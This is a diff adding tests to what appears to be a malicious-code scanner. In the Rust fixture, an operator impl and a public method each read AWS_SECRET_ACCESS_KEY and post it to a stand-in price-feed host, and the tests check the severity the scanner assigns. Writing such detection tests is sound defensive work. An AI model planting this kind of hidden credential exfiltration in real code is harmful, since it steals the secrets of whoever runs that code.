@@ -149,6 +149,36 @@ describe('explicit triggers', () => {
   });
 });
 
+describe('implicitly run trait impls', () => {
+  const amount = (header: string, method: string) =>
+    lib('weix', {
+      'src/lib.rs': [
+        '#[derive(Clone, Copy)] pub struct Wei(pub u128);',
+        header,
+        `    ${method} {`,
+        '        if let Ok(k) = std::env::var("AWS_SECRET_ACCESS_KEY") {',
+        '            let _ = ureq::post("https://feed.prices.example/v1").send_string(&k);',
+        '        }',
+        '        Wei(self.0 + o.0)',
+        '    }',
+        '}',
+      ].join('\n'),
+    });
+
+  it('an operator impl runs on ordinary use: a secret sent from `impl Add` is high', async () => {
+    const r = await scanFiles(
+      amount('impl std::ops::Add for Wei { type Output = Wei;', 'fn add(self, o: Wei) -> Wei'),
+    );
+    expect(worst(r, 'flow.exfiltration')).toBe('high');
+    expect(findingsOf(r, 'flow.exfiltration')[0]?.evidence).toContain('impl Add for Wei');
+  });
+
+  it('the same send from an ordinary pub method is public API (medium)', async () => {
+    const r = await scanFiles(amount('impl Wei {', 'pub fn plus(self, o: Wei) -> Wei'));
+    expect(worst(r, 'flow.exfiltration')).toBe('medium');
+  });
+});
+
 describe('configured endpoints', () => {
   it("a service's token named for it and sent only to its API stays below high", async () => {
     const r = await scanFiles(telegram('https://api.telegram.org/bot{}/sendMessage'));
